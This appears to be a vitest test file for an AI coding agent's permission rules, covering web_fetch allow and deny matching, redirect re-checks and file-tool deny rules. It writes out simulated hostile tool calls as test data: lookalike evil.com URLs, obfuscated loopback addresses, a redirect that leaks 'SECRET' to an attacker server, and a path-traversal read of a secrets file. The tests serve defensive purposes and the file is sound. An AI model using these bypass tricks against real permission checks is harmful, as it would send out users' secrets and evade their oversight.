// Permission rules read the way the user meant them: a web_fetch rule matches the parsed URL, not
// its text, every redirect hop is checked again, and a file rule covers every tool of its kind.
import {existsSync, writeFileSync} from 'node:fs';
import path from 'node:path';
import {afterEach, describe, expect, it} from 'vitest';
import {attack, startAttacker, type Attacker, type ToolCalls} from '../helpers/attack.js';
import {tempRepo, type TempRepo} from '../helpers/workspace.js';

let repo: TempRepo | undefined;
const servers: Attacker[] = [];

afterEach(() => {
  repo?.cleanup();
  repo = undefined;
  for (const server of servers.splice(0)) {
    server.close();
  }
});

async function server(answer?: Parameters<typeof startAttacker>[0]): Promise<Attacker> {
  const started = await startAttacker(answer);
  servers.push(started);
  return started;
}

function withRules(rules: {allow?: string[]; deny?: string[]}): TempRepo {
  repo = tempRepo({'secrets/key.txt': 'SECRET-VALUE-42\n', 'src/a.txt': 'hello\n'});
  writeFileSync(path.join(repo.home, 'config.json'), JSON.stringify({permissions: {allow: rules.allow ?? [], deny: rules.deny ?? []}}));
  return repo;
}

const fetches = (urls: string[]): ToolCalls[] => urls.map(url => [{name: 'web_fetch', arguments: {url}}]);
const needsApproval = /needs the user's approval/;

describe('web_fetch allow rules', () => {
  it('allow the site and the paths below it, and nothing that only starts with the same text', async () => {
    const docs = await server();
    const attacker = await server();
    const port = new URL(attacker.url).port;
    withRules({allow: [`web_fetch(${docs.url}/docs)`, 'web_fetch(https://docs.python.org)']});
    const lookalikes = ['https://docs.python.org.evil.com/x', 'https://docs.python.org@evil.com/', `${docs.url}@127.0.0.1:${port}/leak`, `${docs.url}/docsevil`, `${docs.url}/other`];
    const {results} = await attack(repo!, fetches([...lookalikes, `${docs.url}/docs/page`]));

    expect(attacker.hits).toEqual([]);
    expect(docs.hits).toEqual(['/docs/page']);
    expect(results.slice(0, lookalikes.length).every(content => needsApproval.test(content))).toBe(true);
    expect(results.at(-1)).toMatch(/^HTTP 200/);
  });
});

describe('web_fetch deny rules', () => {
  it('match the URL whatever its case or spelling, also under --yolo', async () => {
    const attacker = await server();
    const {port} = new URL(attacker.url);
    withRules({deny: [`web_fetch(${attacker.url})`]});
    const spellings = [`HTTP://127.0.0.1:${port}/leak`, `http://user:pw@127.0.0.1:${port}/leak`, `http://0x7f.0.0.1:${port}/leak`, `http://2130706433:${port}/leak`, `http://127.0.0.1.:${port}/leak`];
    const {results} = await attack(repo!, fetches(spellings), {args: ['--yolo']});

    expect(attacker.hits).toEqual([]);
    expect(results).toHaveLength(spellings.length);
    expect(results.every(content => /denies it/.test(content))).toBe(true);
  });
});

describe('web_fetch redirects', () => {
  it('are not followed to another origin without a new approval', async () => {
    const attacker = await server();
    const docs = await server((_request, response) => response.writeHead(302, {location: `${attacker.url}/leak?d=SECRET`}).end());
    withRules({allow: [`web_fetch(${docs.url})`]});
    const {results} = await attack(repo!, fetches([`${docs.url}/go`]));

    expect(docs.hits).toEqual(['/go']);
    expect(attacker.hits).toEqual([]);
    expect(results[0]).toMatch(/was stopped: it redirected to http:\/\/127\.0\.0\.1:\d+\/leak\?d=SECRET, which was not fetched: Not run: web_fetch fetches .*needs the user's approval/);
  });

  it('meet deny rules at every hop, on the same origin and under --yolo too', async () => {
    const attacker = await server();
    const docs = await server((request, response) => {
      const target = request.url === '/to-attacker' ? `${attacker.url}/leak` : request.url === '/to-private' ? '/private/page' : undefined;
      response.writeHead(target ? 301 : 200, target ? {location: target} : {}).end('public page');
    });
    withRules({deny: [`web_fetch(${attacker.url})`, `web_fetch(${docs.url}/private)`]});
    const {results} = await attack(repo!, fetches([`${docs.url}/to-attacker`, `${docs.url}/to-private`, `${docs.url}/open`]), {args: ['--yolo']});

    expect(attacker.hits).toEqual([]);
    expect(docs.hits).toEqual(['/to-attacker', '/to-private', '/open']);
    expect(results[0]).toMatch(/was stopped: .*denies it/);
    expect(results[1]).toMatch(/was stopped: .*denies it/);
    expect(results[2]).toMatch(/public page/);
  });
});

describe('file rules', () => {
  it('a deny on edit_file also stops write_file, and a deny on read_file also stops grep, glob and list_files', async () => {
    withRules({deny: ['edit_file(secrets/**)', 'read_file(secrets/**)']});
    const calls: ToolCalls[] = [
      [{name: 'write_file', arguments: {path: 'secrets/new.txt', content: 'x'}}],
      [{name: 'write_file', arguments: {path: 'secrets/key.txt', content: 'x'}}],
      [{name: 'grep', arguments: {pattern: 'SECRET', path: 'secrets'}}],
      [{name: 'grep', arguments: {pattern: 'SECRET', path: 'secrets/key.txt'}}],
      [{name: 'glob', arguments: {pattern: '*', path: 'secrets'}}],
      [{name: 'list_files', arguments: {path: 'secrets'}}],
      [{name: 'read_file', arguments: {path: './src/../secrets/key.txt'}}],
    ];
    const {results} = await attack(repo!, [...calls, [{name: 'write_file', arguments: {path: 'src/b.txt', content: 'ok'}}]], {args: ['--yolo']});

    expect(existsSync(path.join(repo!.dir, 'secrets/new.txt'))).toBe(false);
    expect(results.join('\n')).not.toContain('SECRET-VALUE-42');
    expect(results.join('\n')).not.toContain('key.txt\n');
    expect(results.slice(0, calls.length).every(content => /denies it/.test(content))).toBe(true);
    expect(results.at(-1)).toMatch(/^Created src\/b\.txt/);
  });

  it('a deny on reading a folder keeps its files out of a grep or glob of a folder above it', async () => {
    withRules({deny: ['read_file(secrets/**)']});
    const calls: ToolCalls[] = [
      [{name: 'grep', arguments: {pattern: 'SECRET|hello'}}],
      [{name: 'grep', arguments: {pattern: 'SECRET', path: '.', include: '*.txt'}}],
      [{name: 'glob', arguments: {pattern: '**/*.txt'}}],
    ];
    const {results} = await attack(repo!, calls, {args: ['--yolo']});

    expect(results.join('\n')).not.toContain('SECRET-VALUE-42');
    expect(results.join('\n')).not.toContain('key.txt');
    expect(results[0]).toContain('src/a.txt:1:hello');
    expect(results[0]).toContain('1 file left out: a permission rule denies reading it');
    expect(results[1]).toMatch(/^No matches/);
    expect(results[2]).toContain('src/a.txt');
    expect(results[2]).toContain('1 file left out');
  });
});
